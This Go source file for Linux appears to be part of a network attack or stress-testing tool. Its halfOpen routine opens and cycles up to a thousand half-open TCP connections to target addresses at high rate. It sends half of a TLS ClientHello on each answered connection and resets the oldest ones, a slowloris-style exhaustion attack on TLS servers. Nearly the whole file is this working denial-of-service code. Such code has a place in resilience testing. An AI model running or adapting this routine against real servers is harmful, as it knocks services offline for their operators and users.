//go:build linux

package main

import (
	"context"
	"errors"
	"net/netip"

	"golang.org/x/sys/unix"
)

// openMost is how many half-open connections an attacker holds.
const openMost = 1000

// A knock is a connection of an attacker that waits for nothing.
type knock struct {
	fd    int
	spoke bool // half a hello has left
}

// halfOpen connects at its rate, sends half a ClientHello on what is answered, keeps
// the latest open and resets the oldest. It makes the system calls itself and sleeps
// in none of them: 10 000 a second are less than a core's work.
func halfOpen(ctx context.Context, a *attacker) {
	hello, err := clientHello()
	if err != nil {
		a.failed(ctx, err)
		return
	}
	half := hello[:len(hello)/2]
	targets, err := sockaddrs(a.targets)
	if err != nil {
		a.failed(ctx, err)
		return
	}
	var open [openMost]knock
	for i := range open {
		open[i].fd = -1
	}
	mute := 0 // those before it have spoken, or are gone
	a.paced(ctx, func(n int) {
		// Answers take a while: those of two beats ago are looked at.
		const answerAfter = 40
		for mute = max(mute, n-openMost); mute < n-answerAfter; mute++ {
			a.speak(&open[mute%openMost], half)
		}
		k := &open[n%openMost]
		if k.fd >= 0 {
			a.speak(k, half) // for those whose answer took longer
			reset(k.fd)
		}
		*k = knock{fd: -1}
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			a.failed(ctx, err)
			return
		}
		if err := unix.Connect(fd, targets[n%len(targets)]); err != nil && !errors.Is(err, unix.EINPROGRESS) {
			a.failed(ctx, err)
			unix.Close(fd)
			return
		}
		k.fd = fd
	})
	for _, k := range open {
		if k.fd >= 0 {
			reset(k.fd)
		}
	}
}

// speak sends b on a connection that was answered and has not spoken.
func (a *attacker) speak(k *knock, b []byte) {
	if k.fd < 0 || k.spoke {
		return
	}
	n, err := unix.SendmsgN(k.fd, b, nil, nil, unix.MSG_NOSIGNAL)
	if errors.Is(err, unix.EAGAIN) {
		return // nobody has answered
	}
	k.spoke = true
	a.met.Add(1)
	a.bytes.Add(int64(max(n, 0)))
}

// reset closes a socket without a farewell, which would keep its port busy.
func reset(fd int) {
	_ = unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1}) // best effort
	unix.Close(fd)
}

// sockaddrs reads IPv4 addresses and ports.
func sockaddrs(targets []string) (all []unix.Sockaddr, err error) {
	for _, t := range targets {
		to, err := netip.ParseAddrPort(t)
		if err != nil {
			return nil, err
		}
		all = append(all, &unix.SockaddrInet4{Addr: to.Addr().Unmap().As4(), Port: int(to.Port())})
	}
	return all, nil
}
